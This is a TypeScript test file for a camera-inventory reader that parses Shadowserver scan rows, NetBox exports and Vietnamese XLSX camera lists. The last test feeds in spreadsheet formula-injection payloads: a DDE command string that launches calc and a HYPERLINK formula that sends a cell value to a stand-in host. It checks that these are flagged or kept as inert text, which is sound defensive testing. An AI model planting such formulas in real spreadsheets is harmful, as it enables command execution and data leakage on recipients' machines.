import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { writeTable } from '@ancam/sheets';
import { expect, test } from 'vitest';
import { values } from '../scanning.ts';
import { textRow, workbook, zipOf } from '../../../sheets/test/files.ts';
import { outcomes, readContent, readPath } from './reading.ts';

const DVR =
  '"timestamp","ip","protocol","port","hostname","tag","asn","geo","region","city","naics","sic","sector","device_vendor","device_type","device_model","device_version","device_id","device_serial","machine_name","manufacturer","method","http_port","internal_port","video_input_channels","alarm_input_channels","video_output_channels","alarm_output_channels","remote_video_input_channels","mac_address","ipv4_address"';

test('Shadowserver scan_dvr_dhcpdiscover gives the facts of the search that it repeats', async () => {
  const row =
    '"2025-11-20 00:53:20",192.0.2.70,udp,37810,,dvrdhcpdiscover,64512,VN,,,0,0,,Dahua,IPC,IPC-HFW1230S,2.622.0000000.18.R.181130,,4E0123456789,CAM1,Dahua,client.notifyDevInfo,80,37777,1,0,0,0,0,3c:ef:8c:00:00:01,192.168.1.108';
  const { head, hosts } = await readContent(`${DVR}\n${row}\n`);
  expect(head.source).toMatchObject({
    format: 'shadowserver',
    tool: 'Shadowserver',
    command: 'scan_dvr_dhcpdiscover',
    timeFrom: 'content',
  });
  const found = hosts.get('192.0.2.70');
  expect(found).toMatchObject({ life: 'discovery', startedAt: '2025-11-20T00:53:20.000Z' });
  expect(found?.identity).toMatchObject({
    maker: 'dahua',
    model: 'IPC-HFW1230S',
    firmware: '2.622.0000000.18.R.181130',
    serial: '4E0123456789',
    mac: '3CEF8C000001',
  });
  expect(values(found, 'discovery.ownAddress')).toEqual(['192.168.1.108']);
  expect([...outcomes(found).values()]).toContain('fail');
});

function device(ip: string, vendor: string, type: string): string {
  return `"2025-11-20 00:53:20","${ip}","tcp",443,,"ssl",1,"VN",,,,,,"${vendor}","${type}","X1"`;
}

test('Shadowserver device_id names a maker only where it takes the device for a camera or recorder', async () => {
  const header =
    '"timestamp","ip","protocol","port","hostname","tag","asn","geo","region","city","naics","sic","sector","device_vendor","device_type","device_model"';
  const { hosts } = await readContent(
    [header, device('192.0.2.71', 'Hikvision', 'ip-camera'), device('192.0.2.72', 'D-Link', 'router')].join('\r\n'),
  );
  expect(hosts.get('192.0.2.71')?.identity).toMatchObject({ kind: 'camera', maker: 'hikvision', strength: 'hint' });
  expect(hosts.get('192.0.2.72')?.identity.maker).toBeUndefined();
});

test('Shadowserver http, rtsp and telnet', async () => {
  const http = await readContent(
    '"timestamp","ip","protocol","port","hostname","tag","asn","geo","region","city","naics","sic","http","http_code","http_reason","content_type","connection","www_authenticate","set_cookie","server","content_length","transfer_encoding","http_date"\n"2025-11-20 00:53:20","192.0.2.73","tcp",8080,,"http",1,"VN",,,0,0,"HTTP/1.1",401,"Unauthorized","text/html",,"Basic realm=""index""",,"App-webs/",,,\n',
  );
  expect(values(http.hosts.get('192.0.2.73'), 'http.realm')).toEqual(['index']);
  expect(outcomes(http.hosts.get('192.0.2.73')).get('web/basic-clear-text') ?? 'fail').toBe('fail');
  const rtsp = await readContent(
    '"timestamp","ip","protocol","port","tag","rtsp","rtsp_code","server","www_authenticate"\n"2025-11-20 00:53:20","192.0.2.74","tcp",554,"rtsp","RTSP/1.0",401,"H264DVR 1.0","Basic realm=""/"""\n',
  );
  expect(values(rtsp.hosts.get('192.0.2.74'), 'rtsp.server')).toEqual(['H264DVR 1.0']);
  expect(values(rtsp.hosts.get('192.0.2.74'), 'rtsp.basicClearText')).toEqual([true]);
  const telnet = await readContent(
    '"timestamp","ip","protocol","port","hostname","tag","asn","geo","region","city","naics","sic","banner"\n"2025-11-20 00:53:20","192.0.2.75","tcp",2323,,"telnet-alt",1,"VN",,,0,0,"|(none) login:|"\n"2025-11-20 00:53:20","nonsense","tcp",23,,"telnet",1,"VN",,,0,0,""\n',
  );
  expect(values(telnet.hosts.get('192.0.2.75'), 'telnet.open')).toEqual([true]);
  expect(telnet.faults.map(({ place }) => place)).toEqual(['3']);
  const mail = await readContent(
    '"timestamp","ip","protocol","port","tag","banner"\n"2025-11-20 00:53:20","192.0.2.76","tcp",25,"smtp","Welcome|"\n',
  );
  expect(values(mail.hosts.get('192.0.2.76'), 'telnet.open')).toEqual([]);
});

function wsReply(address: string, reply: string): string {
  return `"2025-11-20 00:53:20",${address},udp,3702,,ws-discovery,64512,VN,,,0,0,,${reply.length},164.83,"",${Buffer.from(reply).toString('base64')}`;
}

test('Shadowserver scan_ws_discovery: matches are read as in a scan, a fault only says that the service answers', async () => {
  const header =
    '"timestamp","ip","protocol","port","hostname","tag","asn","geo","region","city","naics","sic","sector","response_size","amplification","error","raw_response"';
  const matches =
    '<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope" xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery" xmlns:n="http://www.onvif.org/ver10/network/wsdl"><e:Body><d:ProbeMatches><d:ProbeMatch><d:Types>n:NetworkVideoTransmitter</d:Types><d:Scopes>onvif://www.onvif.org/name/Dahua onvif://www.onvif.org/hardware/IPC-HFW1230S</d:Scopes><d:XAddrs>http://192.168.1.108/onvif/device_service</d:XAddrs></d:ProbeMatch></d:ProbeMatches></e:Body></e:Envelope>';
  const fault =
    '<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body><e:Fault>SOAP message expected</e:Fault></e:Body></e:Envelope>';
  const { head, hosts, faults } = await readContent(
    [header, wsReply('192.0.2.77', matches), wsReply('192.0.2.78', fault), wsReply('192.0.2.79', '')].join('\n'),
  );
  expect(head.source).toMatchObject({ format: 'shadowserver', command: 'scan_ws_discovery' });
  expect(faults).toEqual([]);
  const camera = hosts.get('192.0.2.77');
  expect(camera).toMatchObject({ life: 'discovery', identity: { kind: 'camera', model: 'IPC-HFW1230S' } });
  expect(values(camera, 'wsd.xaddrs')).toEqual([['http://192.168.1.108/onvif/device_service']]);
  for (const address of ['192.0.2.78', '192.0.2.79']) {
    expect(values(hosts.get(address), 'discovery.protocols')).toEqual([['ws-discovery']]);
    expect(values(hosts.get(address), 'wsd.answered')).toEqual([]);
    expect(hosts.get(address)?.identity.kind).not.toBe('camera');
  }
});

test('NetBox: only what its role or type calls a camera is taken for one', async () => {
  const file = [
    'Name,Status,Tenant,Site,Rack,Role,Manufacturer,Type,Serial number,IP Address',
    'cam-1,Active,UBND,HQ,,IP camera,Hikvision,DS-2CD2143G2-I,DS0001,10.1.1.10/24',
    'sw-1,Active,UBND,HQ,R1,Access switch,D-Link,DGS-1210,S1,10.1.1.2/24',
    'panel,Active,UBND,HQ,R1,Patch panel,,,,',
  ].join('\n');
  const { head, hosts, faults } = await readContent(file);
  expect(head.source).toMatchObject({ format: 'netbox', tool: 'NetBox', timeFrom: 'file' });
  expect(hosts.get('10.1.1.10')?.identity).toMatchObject({ kind: 'camera', maker: 'hikvision', model: 'DS-2CD2143G2-I', serial: 'DS0001' });
  expect(hosts.get('10.1.1.2')?.identity.kind).not.toBe('camera');
  expect(faults).toHaveLength(1);
});

test('a list of cameras as XLSX: title above the header, faults by their cell, firmware held against known flaws', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'ancam-list-'));
  const path = join(folder, 'danh-sach');
  const columns = ['stt', 'ip', 'mac', 'hang', 'model', 'fw'].map((key, index) => ({
    key,
    title: { vi: ['STT', 'Địa chỉ IP', 'MAC', 'Hãng', 'Model', 'Firmware'][index] ?? '', en: '' },
    kind: 'text' as const,
  }));
  const rows = [
    { stt: '1', ip: '10.2.0.10', mac: '44-19-b6-00-00-01', hang: 'Hikvision', model: 'DS-2CD2042WD-I', fw: 'V5.4.0 build 160530' },
    { stt: '2', ip: '10.2.0.300', mac: '', hang: 'Dahua', model: 'IPC-HFW1230S', fw: '' },
    { stt: '3', ip: '10.2.0.12', mac: 'xyz', hang: 'Dahua', model: 'IPC-HFW1230S', fw: '' },
  ];
  const pieces: Uint8Array[] = [];
  for await (const piece of writeTable(Readable.from(rows), { format: 'xlsx', columns, language: 'vi', sheet: 'Camera' }))
    pieces.push(piece);
  await writeFile(path, Buffer.concat(pieces));
  const { head, hosts, faults } = await readPath(path, 'danh-sach.xlsx');
  await rm(folder, { recursive: true });
  expect(head.source).toMatchObject({ format: 'camera-list', file: 'danh-sach.xlsx' });
  expect(hosts.get('10.2.0.10')?.identity).toMatchObject({
    kind: 'camera',
    maker: 'hikvision',
    model: 'DS-2CD2042WD-I',
    mac: '4419B6000001',
  });
  expect(hosts.get('10.2.0.12')?.identity.maker).toBe('dahua');
  expect(faults).toHaveLength(2);
  expect(faults.map(({ place }) => place).every((place) => /^[BC]\d+$/.test(place))).toBe(true);
});

test('formulas in a list of cameras are data nowhere: a computed cell is a fault, a text that looks like one stays text', async () => {
  const cells = [
    '<c t="inlineStr"><is><t>10.2.0.20</t></is></c>',
    '<c t="str"><f>HYPERLINK("http://192.0.2.1/"&amp;A2,"DS-1")</f><v>DS-1</v></c>',
    '<c t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c>',
  ].join('');
  const path = await zipOf(workbook(textRow(1, ['Địa chỉ IP', 'Model', 'Firmware']) + `<row r="2">${cells}</row>`));
  const { hosts, faults } = await readPath(path, 'danh-sach.xlsx');
  expect(faults.map(({ place, fault }) => [place, fault.en])).toEqual([['B2', 'The cell is a formula, not data.']]);
  expect(hosts.get('10.2.0.20')?.identity.model).toBeUndefined();
  expect(values(hosts.get('10.2.0.20'), 'label.firmware')).toEqual(["=cmd|' /C calc'!A0"]);
  const csv = await readContent(`IP;Model;Firmware\n10.2.0.21;"=HYPERLINK(""http://192.0.2.1"")";'@SUM(A1)\n`);
  expect(values(csv.hosts.get('10.2.0.21'), 'label.model')).toEqual(['=HYPERLINK("http://192.0.2.1")']);
  // the apostrophe is that of an export, which keeps a text from being run
  expect(values(csv.hosts.get('10.2.0.21'), 'label.firmware')).toEqual(['@SUM(A1)']);
});
